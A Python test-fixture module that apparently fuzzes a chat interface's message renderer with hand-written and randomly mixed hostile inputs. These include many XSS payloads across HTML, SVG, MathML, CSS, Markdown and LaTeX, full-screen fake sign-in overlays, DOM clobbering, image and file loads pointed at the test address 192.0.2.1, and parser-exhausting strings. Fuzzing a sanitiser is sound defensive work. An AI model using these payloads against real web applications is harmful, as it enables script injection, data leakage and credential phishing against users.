"""Messages that try to get out of their box: written by hand, and mixed at random from a seed."""

# ruff: noqa: E501, RUF001

import random
from collections.abc import Iterator

_FILE = "/gradio_api/file=http://192.0.2.1/x"

_HTML = rf"""
<img src={_FILE}>
<img src="{_FILE}" onload="taken()" onerror=taken()>
<IMG SRC=javascript:taken()>
<img srcset="{_FILE} 1x, {_FILE}2 2x">
<img src=x onerror=&#116;aken()>
<img/src/onerror=taken()>
<img src="x` `<script>taken()</script>"` `>
<img loading=eager src=//192.0.2.1/a.png>
<image src={_FILE}>
<picture><source srcset={_FILE}><img></picture>
<svg><image href={_FILE} /></svg>
<svg><image xlink:href="{_FILE}"></image></svg>
<svg onload=taken()>
<svg><script>taken()</script></svg>
<svg><script href=data:,taken()></script></svg>
<svg><use href="{_FILE}#a"/></svg>
<svg><foreignObject><img src={_FILE}></foreignObject></svg>
<svg><foreignObject><iframe src={_FILE}></iframe></foreignObject></svg>
<svg><animate onbegin=taken() attributeName=x dur=1s>
<svg><a><animate attributeName=href values=javascript:taken() /><text x=20 y=20>press</text></a></svg>
<svg><style>*{{background:url({_FILE})}}</style></svg>
<svg><feImage href={_FILE} />
<svg><set attributeName=onmouseover to=taken()>
<svg></p><style><a id="</style><img src=1 onerror=taken()>">
<video src={_FILE} autoplay></video>
<video poster={_FILE}></video>
<video><source src={_FILE} onerror=taken()></video>
<audio src={_FILE} autoplay></audio>
<audio controls><track src={_FILE}></audio>
<form action={_FILE}><button>Go on</button></form>
<form action=javascript:taken()><input type=submit autofocus onfocus=taken()>
<input type=image src={_FILE}>
<input autofocus onfocus=taken()>
<button formaction=javascript:taken()>press</button>
<button popovertarget=x>press</button><div popover id=x>over all</div>
<isindex type=image src={_FILE}>
<select autofocus onfocus=taken()><option>a</select>
<textarea autofocus onfocus=taken()></textarea>
<keygen autofocus onfocus=taken()>
<dialog open style="position:fixed;inset:0;z-index:9999">Your key, please</dialog>
<div style="position:fixed;inset:0;background:#fff;z-index:9999">Sign in again</div>
<div style="position:absolute;top:-5000px">above</div>
<p style="margin-top:-400px">over the message before</p>
<span style="display:block;transform:translateY(-500px)">moved</span>
<div style="background:url({_FILE})">x</div>
<div style="background:url(&quot;{_FILE}&quot;)">x</div>
<p style="list-style-image:url({_FILE});display:list-item">x</p>
<p style="cursor:url({_FILE}),auto">x</p>
<p style="content:url({_FILE})">x</p>
<p style="width:expression(taken())">x</p>
<p style="behavior:url({_FILE})">x</p>
<p style="-moz-binding:url({_FILE})">x</p>
<style>@import "{_FILE}";</style>
<style>@import url({_FILE});</style>
<style>body{{background:url({_FILE})}}</style>
<style>#send{{display:none}}</style>
<style>@font-face{{font-family:x;src:url({_FILE})}}*{{font-family:x}}</style>
<style>*{{display:none}}</style
<STYLE>@im\port'{_FILE}';</STYLE>
<link rel=stylesheet href={_FILE}>
<link rel=preload as=image href={_FILE}>
<link rel=prefetch href={_FILE}>
<link rel=dns-prefetch href=//192.0.2.1>
<link rel=preconnect href=//192.0.2.1>
<link rel=modulepreload href={_FILE}>
<link rel=icon href={_FILE}>
<link rel=import href={_FILE}>
<link rel="prerender" href="{_FILE}">
<meta http-equiv=refresh content="0;url={_FILE}">
<meta http-equiv="refresh" content="0; url=javascript:taken()">
<meta http-equiv=Content-Security-Policy content="default-src *">
<meta http-equiv=Set-Cookie content="a=b">
<meta name=referrer content=unsafe-url>
<base href=//192.0.2.1/>
<base target=_self>
<iframe src={_FILE}></iframe>
<iframe srcdoc="<script>parent.taken()</script>"></iframe>
<iframe src=javascript:parent.taken()>
<iframe onload=taken()></iframe>
<frameset onload=taken()><frame src={_FILE}></frameset>
<object data={_FILE}></object>
<object data=javascript:taken()>
<embed src={_FILE}>
<embed src=javascript:taken()>
<applet code=x archive={_FILE}>
<portal src={_FILE}></portal>
<fencedframe src={_FILE}></fencedframe>
<marquee onstart=taken()>x</marquee>
<bgsound src={_FILE}>
<body onload=taken() background={_FILE}>
<table background={_FILE}><td background={_FILE}>x</table>
<table><tr><td><table><tr><td><img src={_FILE}></td></tr></table></td></tr></table>
</table></td></tr></div></div></div></article><h1>outside</h1>
</div></div></div></div><button id=send>Send</button>
<script>taken()</script>
<script src={_FILE}></script>
<script type=module>import "{_FILE}"</script>
<script type=speculationrules>{{"prefetch":[{{"source":"list","urls":["{_FILE}"]}}]}}</script>
<script type=importmap>{{"imports":{{"a":"{_FILE}"}}}}</script>
<SCRIPT>taken()//<</SCRIPT>
<scr<script>ipt>taken()</scr</script>ipt>
<script	>taken()</script	>
<script/x>taken()</script>
<<script>taken();//<</script>
<script>taken()
<noscript><p title="</noscript><img src=x onerror=taken()>">
<template><img src={_FILE} onerror=taken()></template>
<template shadowrootmode=open><img src={_FILE}></template>
<slot onslotchange=taken()>x</slot>
<details open ontoggle=taken()><summary>x</summary></details>
<a href="javascript:taken()">x</a>
<a href="&#106;avascript:taken()">x</a>
<a href="java&#10;script:taken()">x</a>
<a href=" &#14; javascript:taken()">x</a>
<a href="data:text/html,<script>opener.taken()</script>">x</a>
<a href="vbscript:taken()">x</a>
<a href={_FILE} ping={_FILE}>x</a>
<a href={_FILE} download>x</a>
<a href=#send id=send name=send target=_top>x</a>
<map name=x><area shape=rect coords=0,0,9,9 href=javascript:taken()></map><img usemap=#x>
<div id=prompt>clobber</div><form name=floe></form>
<img name=getElementById><img name=body><img id=floe>
<a id=floe><a id=floe name=el href=javascript:taken()>
<div onclick=taken() onmouseover=taken() onpointerenter=taken()>x</div>
<div onanimationstart=taken() style="animation:breathe 1s">x</div>
<div contenteditable autofocus onfocus=taken()>x</div>
<p tabindex=1 accesskey=x onfocus=taken() autofocus>x</p>
<xss autofocus tabindex=1 onfocus=taken()></xss>
<x onbeforematch=taken() hidden=until-found>x</x>
<x oncontentvisibilityautostatechange=taken() style="content-visibility:auto">x</x>
<!-- <img src={_FILE}> -->
<!--><img src={_FILE}>-->
<!---><img src=x onerror=taken()>-->
<!-- --!><img src=x onerror=taken()> -->
<!-- `<img src=x onerror=taken()>` -->
<![CDATA[<img src=x onerror=taken()>]]>
<?xml-stylesheet href="{_FILE}"?>
<!DOCTYPE html [<!ENTITY x SYSTEM "{_FILE}">]>&x;
<!x><img src=x onerror=taken()>
<?><img src=x onerror=taken()>
</><img src=x onerror=taken()>
<%<img src=x onerror=taken()>%>
<math><mtext><img src={_FILE}></mtext></math>
<math href=javascript:taken()>x</math>
<math><mi xlink:href="javascript:taken()">x</mi></math>
<math><maction actiontype="statusline#http://192.0.2.1" xlink:href="javascript:taken()">x</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=taken()></annotation-xml></math>
<math><semantics><annotation-xml encoding="application/xhtml+xml"><script>taken()</script></annotation-xml></semantics></math>
<math><mglyph src={_FILE}></mglyph></math>
<math><mtext><table><mglyph><style><math><img src onerror=taken()></style></mglyph></table></mtext></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=taken()>
<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src onerror=taken()>">
<math><mi><table><mglyph><style><![CDATA[</style><img title="]]></mglyph><img src=1 onerror=taken()>">
<svg><p><style><!--</style><img src=x onerror=taken()>--></style>
<svg><desc><noscript>&lt;/noscript>&lt;img src=x onerror=taken()></noscript></desc></svg>
<noembed><img title="</noembed><img src=x onerror=taken()>"></noembed>
<noframes><img title="</noframes><img src=x onerror=taken()>"></noframes>
<xmp><p title="</xmp><img src=x onerror=taken()>">
<plaintext><img src=x onerror=taken()>
<listing>&lt;img src=x onerror=taken()></listing>
<textarea><img title="</textarea><img src=x onerror=taken()>">
<title><img title="</title><img src=x onerror=taken()>">
<select><style></select><img src=x onerror=taken()></style>
<style><style/><img src=x onerror=taken()>
<p id="</p><img src=x onerror=taken()>">
<b/onmouseover=taken()>x
<b	onmouseover	=	taken()>x
<b
<
<a
<img src=x:x onerror=taken()
""".strip("\n").split("\n")

_MARKDOWN = [
    f'```mermaid\ngraph TD; A["<img src={_FILE}>"] --> B\n```',
    f"```mermaid\nclick A href \"javascript:taken()\"\n%%{{init: {{'themeCSS': '*{{background:url({_FILE})}}'}}}}%%\n```",
    f"~~~mermaid\nsequenceDiagram\nA->>B: <video src={_FILE} autoplay>\n~~~",
    f"\\`<img src={_FILE}>\\`",
    f"\\`\\`\\`\n<img src={_FILE}>\n\\`\\`\\`",
    f"`` ` `` <img src={_FILE}> `",
    f"`a\\` <img src={_FILE}> `b",
    f"``` a`b\n<img src={_FILE}>\n```",
    f"```html ` onload\n<img src={_FILE}>\n```",
    f'```"><img src={_FILE}>\nx\n```',
    f"```<img/src={_FILE}>\nx\n```",
    f"```a&quot;&gt;&lt;img&#32;src={_FILE}\nx\n```",
    f"- a\n\n  ```\n<img src={_FILE}>\n```",
    f"- a\n    ```\n    <img src={_FILE}>\n    ```",
    f"1. a\n   ```html\n<img src={_FILE}>\n   ```\n<img src={_FILE}>",
    f"> ```\n<img src={_FILE}>\n```",
    f"> - ```\n> <img src={_FILE}>\n",
    f"```\n<img src={_FILE}>",
    f"````\n```\n<img src={_FILE}>\n",
    f"    <img src={_FILE}>\n<img src={_FILE}>",
    f"\t<img src={_FILE}>",
    f"![x]({_FILE})",
    f"![x](<{_FILE}>)",
    "![x](http://192.0.2.1/a.png)",
    '![](https://192.0.2.1/a.png "a title")',
    "![x][y]\n\n[y]: http://192.0.2.1/b.png",
    "[![x](http://192.0.2.1/a.png)](javascript:taken())",
    "[![x](data:image/svg+xml,<svg/onload=taken()>)](https://example.com)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "![x](javascript:taken())",
    '![a"onerror="taken()](http://192.0.2.1/)',
    '![x](http://192.0.2.1/"onerror="taken())',
    "[x](javascript:taken())",
    "[x](JaVaScRiPt:taken())",
    "[x](javascript&colon;taken())",
    "[x](javascript&#58;taken())",
    "[x](java\tscript:taken())",
    "[x](<java\nscript:taken()>)",
    "[x](&#x01;javascript:taken())",
    "[x](\x01javascript:taken())",
    "[x](%6aavascript:taken())",
    "[x](javascript://example.com/%0ataken())",
    "[x](data:text/html;base64,PHNjcmlwdD50YWtlbigpPC9zY3JpcHQ+)",
    "[x](vbscript:taken())",
    "[x](file:///etc/passwd)",
    "[x](blob:http://127.0.0.1/x)",
    "[x](about:blank)",
    "[x](//192.0.2.1/)",
    f"[x]({_FILE})",
    "[x](?view=privacy)",
    "[x](#send)",
    "[x](https://example.com\\@192.0.2.1/)",
    "[x](https://user:password@192.0.2.1/)",
    "[https://bank.example](https://192.0.2.1/)",
    "[x](https://еxample.com/)",
    "[x](https://xn--xample-2of.com/)",
    "[x](https://example.com/\u202emoc.live)",
    "[x](http://[::1]:8000/)",
    "[x](http://0x7f.1/)",
    "[x](https://)",
    "[x](mailto:)",
    "[x](mailto:a@example.com?body=taken)",
    "[x](https://example.com 'onmouseover=taken()')",
    '[x](https://example.com "><img src=x onerror=taken()>")',
    "<javascript:taken()>",
    "<JAVASCRIPT:taken()>",
    '<https://example.com/"onmouseover="taken()>',
    '<a@example.com"onmouseover=taken()>',
    'https://example.com/"onmouseover="taken()',
    "https://example.com/<img src=x onerror=taken()>",
    "http://192.0.2.1/`<img src=x onerror=taken()>`",
    "[x]: javascript:taken()\n\n[x]",
    "[x]: <javascript:taken()> '<img src=x onerror=taken()>'\n\n[x] ![x]",
    "[<img src=x onerror=taken()>](https://example.com)",
    "[a](https://example.com/[b](javascript:taken()))",
    "# <img src=x onerror=taken()>\n\n<img src=x onerror=taken()>\n===",
    "| <img src=x onerror=taken()> |\n|---|\n| <svg onload=taken()> |",
    '| a |\n|:-"onmouseover="taken():|\n| b |',
    "|a|b|\n|-|-|\n|`|`<img src=x onerror=taken()>|",
    '- [x"] <input onfocus=taken() autofocus>\n- [ ] <img src=x onerror=taken()>',
    "- [x] \n- [ ] [x](javascript:taken())",
    "- [x] a task in a heading\n  =",
    "&lt;img src=x onerror=taken()&gt; &#60;svg onload=taken()&#62; &#x3c;b>",
    "&amp;lt;img src=x onerror=taken()&amp;gt;",
    "\\<img src=x onerror=taken()\\>",
    "*<img src=x onerror=taken()>* **<svg onload=taken()>** ~~<b onclick=taken()>~~",
    r"$\href{javascript:taken()}{x}$",
    r"\(\url{javascript:taken()}\)",
    r"$$\text{<img src=x onerror=taken()>}$$",
    r"\[\html{<img src=x onerror=taken()>}\]",
    r"$\class{modal}{x}$ $\style{position:fixed;inset:0}{x}$ $\cssId{send}{x}$",
    rf"\(\includegraphics{{{_FILE}}}\)",
    r"$$\color{red;background:url(http://192.0.2.1/)}{x}$$",
    r"$$\kern-1000em over$$ $$\hspace{-1000em} over$$",
    r"$$\raisebox{1000em}{up}$$ $$\rule{9999em}{9999em}$$",
    r"$$\mspace{-99999mu}x \mathrlap{xxxxxxxxxxxx}$$",
    r"$$\hspace{99999em} far$$",
    r"$$\def\a{\a\a}\a$$ $$\newcommand{\b}{\b\b\b}\b$$",
    r"$$\begin{matrix}" + "a&" * 300 + r"\end{matrix}$$",
    r"$" + "'" * 299 + "$",
    r"$$" + r"\frac{a}{" * 60 + "x" + "}" * 60 + "$$",
    r"$$" + r"\sqrt{" * 300 + "x" + "}" * 300 + "$$",
    r"$$" + "{" * 1500 + "}" * 1500 + "$$",
    r"\(a \text{$<img src=x onerror=taken()>$} b\)",
    r"\(</math><img src=x onerror=taken()>\)",
    r"$$\label{send}\ref{send}\tag{<b>}$$",
    "$$\n<img src=x onerror=taken()>\n$$",
    "\\[\n```\n\\]\n<img src=x onerror=taken()>\n```",
    "\x00<img src=x onerror=taken()>\x00",
    "<im\x00g src=x onerror=taken()>",
    "\u2028<img src=x onerror=taken()>\u2029",
    "\ufeff<img src=x onerror=taken()>",
    "\ud800<img src=x onerror=taken()>\udfff",
    "\uff1cimg src=x onerror=taken()\uff1e",
    "\u202e\u2066<gmi\u2069 \u202ctxet a",
    "\u202e" * 300,
    "a" + "\u0300" * 2000,
    "ﷺ" * 300 + "𒐫" * 300,
    "\u200b" * 1000,
    "W" * 5000,
    "W" * 500 + "\u00a0" * 500,
    "> " * 300 + "deep",
    "- " * 40 + "deep",
    "\n".join("  " * depth + "- deep" for depth in range(200)),
    "\n".join(">" * depth + " - a" for depth in range(60)),
    "[" * 2000 + "](javascript:taken())",
    "![" * 1000 + "x",
    "*" * 3000 + "x" + "*" * 3000,
    "`" * 2001 + "x",
    "|a" * 300 + "|\n" + "|-" * 300 + "|\n" + "|b\n" * 40,
    "a\n" * 3000,
    "\n" * 3000,
    "#" * 300 + " x",
    "-" * 9000,
    "1" * 9 + ". x\n" + "9" * 12 + ". y",
    "```python\n" + '"""' * 1500 + "\n```",
    "```sql\n" + "/*" * 2000 + "\n```",
    "```html\n" + "<!--" * 2000 + "\n```",
    "```js\n" + "`${" * 1500 + "\n```",
    "<" * 5000,
    "&" * 5000,
    "<div>" * 1000,
    "</div>" * 1000,
    "<table>" * 300 + "<img src=x onerror=taken()>",
    "<b><i><u>" * 300,
]

HAND_MADE = [*_HTML, *_MARKDOWN, *(f"Words before\n\n{each}\n\nand after" for each in _HTML[:40])]
"""Each written for one way out; the last are the first again, within other text."""

_PIECES = [
    *"abcXYZ 0129 .,:;!?-_+*~`#>|[](){}<>\\/\"'&$%^@=\n\t",
    *(
        "word",
        "another word",
        "مرحبا",
        "שלום",
        "你好",
        "😀",
        "👩\u200d👩\u200d👧",
        "\u202e",
        "\u2067",
        "\u200b",
    ),
    *(
        "\n\n",
        "\n\n",
        "\n",
        "\n- ",
        "\n1. ",
        "\n> ",
        "\n# ",
        "\n```",
        "\n```html\n",
        "\n~~~\n",
        "\n    ",
    ),
    *(
        "\n---\n",
        "\n===\n",
        "\n|a|b|\n|-|-|\n|",
        "\n- [ ] ",
        "\n- [x] ",
        "\n  ",
        "\n[r]: ",
        "  \n",
        "\\\n",
    ),
    *(
        "**",
        "__",
        "~~",
        "``",
        "```",
        "![",
        "](",
        "[x](",
        "<http",
        "https://",
        "javascript:",
        "data:",
        "$$",
    ),
    *(
        "\\(",
        "\\)",
        "\\[",
        "\\]",
        "\\frac{",
        "\\text{",
        "\\href{",
        "\\begin{matrix}",
        "\\left(",
        "&lt;",
        "&#60;",
    ),
    *(
        "<img src=x onerror=taken()>",
        "<script>taken()</script>",
        "<svg onload=",
        "<style>",
        "</style>",
    ),
    *(
        "<!--",
        "-->",
        "<![CDATA[",
        "]]>",
        "<?",
        "<math>",
        "<mtext>",
        "</p>",
        "</div>",
        "<table>",
        "<td>",
    ),
    *(
        "<iframe src=",
        _FILE,
        "http://192.0.2.1/",
        'style="position:fixed"',
        'onclick="taken()"',
        "id=send",
    ),
]


def random_messages(seed: int, count: int) -> Iterator[str]:
    """`count` messages of pieces of markdown, HTML and hostile ones, the same for the same seed."""
    source = random.Random(seed)
    for _ in range(count):
        parts = []
        for _ in range(source.randint(1, 30)):
            piece = source.choice(_PIECES)
            if source.random() < 0.04:
                piece = source.choice(HAND_MADE)[:400]
                begin = source.randrange(len(piece))
                piece = piece[begin : begin + source.randint(1, 200)]
            elif source.random() < 0.03:
                piece = chr(source.choice((source.randrange(0x80), source.randrange(0x11000))))
            parts.append(piece)
        yield "".join(parts)
